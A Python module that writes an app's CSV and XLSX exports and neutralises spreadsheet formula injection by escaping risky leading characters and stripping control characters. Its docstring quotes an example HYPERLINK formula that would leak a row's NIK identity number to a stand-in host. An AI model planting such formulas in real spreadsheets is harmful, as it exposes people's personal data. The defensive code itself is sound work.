"""The one writer of every CSV and XLSX the app hands out (issue 13, point 1).

A spreadsheet opens a text cell that starts with `=`, `+`, `-` or `@` as a formula: a name typed
as `=HYPERLINK("http://x/?"&E2,"Klik")` would become a live link carrying the NIK of the same row.
Following the OWASP CSV-injection rule, a *text* cell starting with one of those, or with a tab or
a carriage return, gets a leading apostrophe; numbers and dates are not text and stay typed (a
negative number is a number, not a formula). XML 1.0 has no control characters other than tab and
newlines (openpyxl refuses a cell holding one): they are dropped from every cell, in CSV too, so
both formats carry the same text.

Cost per cell: a type check and a check of the first character; the control characters of an XLSX
cell are searched as before (openpyxl searches them again anyway), those of a CSV once per chunk of
rows over the chunk's text, which is cheaper than per cell (no CSV delimiter, quote or line end is
a control character, so the result is the same). A CSV cell whose first character is a control
character is cleaned before its first character is checked, so `\\x0b=...` cannot hide a formula.

Nothing else in krs/ imports csv or openpyxl to write a file (tests/unit/test_export_writer.py
checks it).
"""

from __future__ import annotations

import csv
import io
import tempfile
from collections.abc import Iterable, Iterator

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell
from openpyxl.styles import Alignment, Font
from openpyxl.utils import get_column_letter

__all__ = ["DATE_FORMAT", "Alignment", "Font", "XlsxBook", "XlsxSheet", "csv_chunks", "safe_text"]

DATE_FORMAT = "DD/MM/YYYY"  # how a date cell shows in Excel; the value stays a real date
HEADER_FONT = Font(bold=True)

FORMULA_STARTS = frozenset("=+-@\t\r")
# Control characters XML 1.0 forbids (all below space except tab, newline, carriage return).
CONTROL_CHARACTERS = frozenset(chr(c) for c in range(32)) - frozenset("\t\n\r")
_RISKY_FIRST = FORMULA_STARTS | CONTROL_CHARACTERS  # a CSV cell starting so takes the full path
_strip = ILLEGAL_CHARACTERS_RE.sub

CSV_CHUNK_ROWS = 200  # rows per streamed piece of a CSV


def safe_text(value: str) -> str:
    """`value` without control characters, with an apostrophe in front if it would start a formula."""
    value = _strip("", value)
    if value and value[0] in FORMULA_STARTS:
        return "'" + value
    return value


# ---------------------------------------------------------------- CSV


def csv_chunks(header: list, rows: Iterable[list], every: int = CSV_CHUNK_ROWS) -> Iterator[str]:
    """The CSV text of `header` and `rows` in pieces of `every` rows, for a streamed response (memory
    does not grow with rows). UTF-8 with a BOM so that Excel opens it correctly; an empty cell is None."""
    buffer = io.StringIO()
    writerow = csv.writer(buffer).writerow
    risky = _RISKY_FIRST
    buffer.write("\ufeff")
    writerow([safe_text(v) if isinstance(v, str) else v for v in header])
    for n, row in enumerate(rows, start=1):
        writerow([safe_text(v) if isinstance(v, str) and v and v[0] in risky else v for v in row])
        if n % every == 0:
            yield _strip("", buffer.getvalue())
            buffer.seek(0)
            buffer.truncate()
    yield _strip("", buffer.getvalue())


# ---------------------------------------------------------------- XLSX


class XlsxSheet:
    """A sheet of an `XlsxBook`: rows are appended in order and written out as they come.

    For a table that Excel users can work with (issue 16): `table_header` writes a bold header
    row, freezes it (it stays visible while scrolling) and remembers the table's columns;
    `column_formats` gives a column's cells a number format (dates `DD/MM/YYYY`, numbers
    `#,##0`) so values stay typed; the autofilter over the whole table is set when the book is
    saved, once the number of rows is known."""

    def __init__(self, ws):
        self._ws = ws
        self._append = ws.append
        self._rows = 0
        self._table: tuple[int, int] | None = None  # (header row, number of columns)
        self._table_end: int | None = None  # last row of the table when more rows follow it
        self._formats: dict[int, str] = {}

    def append(self, row: Iterable) -> None:
        """A row of values (None leaves the cell out) or of cells made by `cell`."""
        strip, starts = _strip, FORMULA_STARTS  # `safe_text` inlined: this runs once per cell
        values = [
            ("'" + t if (t := strip("", v)) and t[0] in starts else t) if isinstance(v, str) else v
            for v in row
        ]
        if self._formats:
            values = self._formatted(values)
        self._append(values)
        self._rows += 1

    def _formatted(self, values: list) -> list:
        for index, number_format in self._formats.items():
            if index < len(values) and (v := values[index]) is not None and not isinstance(v, str | Cell):
                c = WriteOnlyCell(self._ws, value=v)
                c.number_format = number_format
                values[index] = c
        return values

    def cell(
        self,
        value,
        *,
        font: Font | None = None,
        number_format: str | None = None,
        alignment: Alignment | None = None,
    ) -> WriteOnlyCell:
        """A styled cell for `append`; its value goes through the same rule as every other."""
        c = WriteOnlyCell(self._ws, value=safe_text(value) if isinstance(value, str) else value)
        if font is not None:
            c.font = font
        if number_format is not None:
            c.number_format = number_format
        if alignment is not None:
            c.alignment = alignment
        return c

    def widths(self, widths: dict[str, float]) -> None:
        """Column widths by letter; set before the first row is appended."""
        for column, width in widths.items():
            self._ws.column_dimensions[column].width = width

    def column_widths(self, widths: Iterable[float]) -> None:
        """Column widths from the first column on; set before the first row is appended."""
        self.widths({get_column_letter(i): w for i, w in enumerate(widths, start=1)})

    def column_formats(self, formats: dict[int, str]) -> None:
        """Number formats by column index (0-based) for the rows appended from now on."""
        self._formats = dict(formats)

    def freeze_below(self, row: int) -> None:
        """Keep rows 1..`row` in view while scrolling; set before the first row is appended."""
        if self._rows:
            raise ValueError("freeze_below is set before the first row is written")
        self._ws.freeze_panes = f"A{row + 1}"

    def table_header(self, header: list) -> None:
        """The header row of the sheet's table: bold, frozen when it is the sheet's first row (a
        header further down is frozen with `freeze_below`), and at save the autofilter's first row."""
        if self._rows == 0 and self._ws.freeze_panes is None:
            self._ws.freeze_panes = "A2"
        saved, self._formats = self._formats, {}
        self.append([self.cell(h, font=HEADER_FONT) for h in header])
        self._formats = saved
        self._table = (self._rows, len(header))

    def end_table(self) -> None:
        """The table ends here: rows appended after it (totals, signatures) stay out of the filter."""
        self._table_end = self._rows

    def _finish(self) -> None:
        if self._table is not None:
            first, columns = self._table
            last = max(self._table_end or self._rows, first)
            self._ws.auto_filter.ref = f"A{first}:{get_column_letter(max(columns, 1))}{last}"


class XlsxBook:
    """A write-only workbook: openpyxl streams each sheet's rows to a temporary file instead of
    keeping them in memory, so a 100k-row export costs what openpyxl's XML writing costs."""

    def __init__(self):
        self._wb = Workbook(write_only=True)
        self._sheets: list[XlsxSheet] = []

    def sheet(self, title: str) -> XlsxSheet:
        """A new sheet (a sheet's name is never evaluated: it is the app's own label)."""
        sheet = XlsxSheet(self._wb.create_sheet(title))
        self._sheets.append(sheet)
        return sheet

    def _save(self, out) -> None:
        for sheet in self._sheets:
            sheet._finish()
        self._wb.save(out)

    def spooled(self):
        """The finished file, in a temporary file positioned at its start (for `send_file`)."""
        out = tempfile.TemporaryFile()
        self._save(out)
        out.seek(0)
        return out

    def to_bytes(self) -> bytes:
        out = io.BytesIO()
        self._save(out)
        return out.getvalue()
